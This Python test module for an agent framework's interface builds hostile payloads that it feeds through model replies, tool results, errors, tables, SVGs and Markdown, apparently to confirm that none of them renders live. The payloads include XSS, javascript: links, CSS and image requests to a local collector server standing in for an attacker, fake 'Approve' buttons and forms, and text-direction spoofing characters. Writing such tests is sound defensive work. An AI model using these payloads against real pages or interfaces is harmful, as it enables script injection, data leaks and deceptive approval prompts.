"""Runs whose every text is hostile: script, requests, forms, writing directions, fake controls."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

from artificer.agent import Agent
from artificer.backends.function.decorator import tool
from artificer.core.policy import Policy, Rule
from artificer.providers.scripted import ScriptedProvider, call, reply, say
from artificer.values.blocks import ReasoningBlock, TextBlock
from artificer.values.model import ModelFailure
from artificer.world import World

MARK = "hostile-mark"
"""In every hostile text, to find where it is shown."""


class Collector:
    """An attacker's server: it counts who calls, and what they ask for."""

    def __init__(self, port: int) -> None:
        self.url = f"http://127.0.0.1:{port}"
        self.heard: list[bytes] = []


@asynccontextmanager
async def collecting() -> AsyncIterator[Collector]:
    """Run the attacker's server."""

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        found.heard.append(await reader.read(1000))
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    found = Collector(server.sockets[0].getsockname()[1])
    try:
        yield found
    finally:
        server.close()
        await server.wait_closed()


def attack(url: str) -> str:
    """A text that runs, fetches, navigates, posts, hides and imitates, if it is taken as markup."""
    return f"""{MARK} </textarea></title></pre></script></style>"'><script>window.evil=1;
fetch("{url}/fetch")</script><img src="{url}/image" onerror="window.evil=2">
<svg onload="window.evil=3"><image href="{url}/svg"/></svg><style>@import url({url}/import);
body {{ display: none; background: url({url}/css) }}</style>
<link rel="stylesheet" href="{url}/link">
<link rel="preload" as="font" href="{url}/font"><base href="{url}/"><iframe src="{url}/frame">
</iframe><object data="{url}/object"></object><meta http-equiv="refresh" content="0;url={url}/meta">
<form action="{url}/form" method="post"><input name="key" autofocus onfocus="window.evil=4">
<button>Approve</button></form><a href="javascript:window.evil=5" ping="{url}/ping">Approve</a>
{{{{ 7 * 7 }}}} {{% raw %}} \u202egnp.exe\u2066\u200b\u3164\x00
{url}/plain javascript:window.evil=6"""


def short(url: str) -> str:
    """The same within the bounds of a title."""
    script = "<script>window.evil=8</script>"
    return f"{MARK}\"'><img src={url}/t onerror=window.evil=7>{script}\u202eev\uffa0il"


TINY = f"{MARK}<script>window.evil=17</script>"
"""The same within the bounds of a column's name."""


def cell(url: str) -> str:
    """The same within the bounds of a cell."""
    return f"""{short(url)} <form action="{url}/cell" method="post"><button>Approve</button></form>
<style>@import url({url}/cell-css)</style><a href="javascript:window.evil=18">Approve</a>"""


TABLE = """| a | b |
| --- | --- |
| <button>Approve</button> | ```</script>``` |
"""
"""A table that is sent back to the model."""


def markdown(url: str) -> str:
    """The same for what renders Markdown."""
    return f"""# {short(url)}

![{MARK}]({url}/md-image) [Approve](javascript:window.evil=9) [{MARK}]({url}/md-link)
<{url}/md-auto> <button>Approve</button> ![x](data:text/html,<script>window.evil=10</script>)

[Approve][1] <style>@import "{url}/md-style"</style>

[1]: javascript:window.evil=11

{{{{artifact:chart:evil}}}}

{{{{artifact:table:evil}}}}

{{{{artifact:svg:evil}}}}

{{{{artifact:checklist:evil}}}}

{{{{artifact:list:evil}}}}

{{{{artifact:file:evil/{MARK}.html.md}}}}

{attack(url)}
"""


def drawing(url: str) -> str:
    """A drawing that would run and fetch."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="window.evil=13">
<script>window.evil=14</script><style>@import url({url}/svg-style);</style>
<image href="{url}/svg-image" width="9" height="9"/><a href="javascript:window.evil=15">
<text>Approve
</text></a><foreignObject><form xmlns="http://www.w3.org/1999/xhtml" action="{url}/svg-form">
<button>Approve</button></form></foreignObject>
<rect width="4" height="4" fill="url({url}/svg-fill)"/>
<use href="{url}/svg-use#x"/><text x="1" y="5">{MARK}</text></svg>"""


def plain_drawing() -> str:
    """A drawing that is taken, with words that imitate the studio."""
    return f"""<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 90 30">
<rect width="90" height="30" fill="#0b5cad"/><text x="5" y="20">Approve {MARK}</text></svg>"""


async def hostile(world: World, url: str) -> None:
    """Make the runs ``made``, ``asks``, ``failed`` and ``other``."""
    evil, title = attack(url), short(url)

    @tool
    def look(at: str) -> str:
        """Look at something."""
        raise ValueError(evil)

    @tool
    def read(at: str) -> Any:
        """Read something."""
        return {"rows": [{TINY: cell(url)[:120], "n": 1}, {TINY: title, "n": 2}], "evil": evil}

    rows = {"call": "read#1", "rows": "/rows", "label": TINY, "values": ["n"]}
    items = [{"id": "a", "label": title}, {"id": "b", "label": f"Approve {MARK}"}]
    table = {"kind": "table", "id": "evil", "title": title, "columns": [TINY, "n"]}
    script = [
        reply(
            ReasoningBlock(provider="scripted", data="{}", summary=evil),
            TextBlock(text=evil),
            call("look", at=evil),
            call("read", at=evil),
            call(f"{MARK}<script>window.evil=16</script>", at=evil),
            call("create_svg", svg={"id": "evil", "title": title, "content": drawing(url)}),
        ),
        reply(
            call("create_bar_chart", id="evil", title=title, data=rows),
            call("create_table", table={**table, "rows": [[cell(url), 1], [f"{url}/cell", 2]]}),
            call(
                "create_checklist",
                checklist={"kind": "checklist", "id": "evil", "title": title, "items": items},
            ),
            call("create_list", list={"kind": "list", "id": "evil", "items": [cell(url), title]}),
            call("create_svg", svg={"id": "evil", "title": title, "content": plain_drawing()}),
            call("create_file", name=f"evil/{MARK}.html.md", content=cell(url) * 9),
        ),
        say(markdown(url) + TABLE),
        say(markdown(url)),
    ]
    for run in ("made", "other"):
        answers = [*script[:-1], say(markdown(url) + run)]
        model = ScriptedProvider([*answers, *[say("No.")] * 8])
        await world.run(evil, Agent(model, tools=[look, read]), run_id=run)
    asks = Policy(rules=(Rule(tool="read", decision="ask", reason=evil),))
    asking = ScriptedProvider([reply(TextBlock(text=evil), call("read", at=evil))])
    await world.run(evil, Agent(asking, kind="chat", tools=[read], policy=asks), run_id="asks")
    down = ScriptedProvider([ModelFailure(code="bad_request", message=evil)])
    await world.run(evil, Agent(down), run_id="failed")
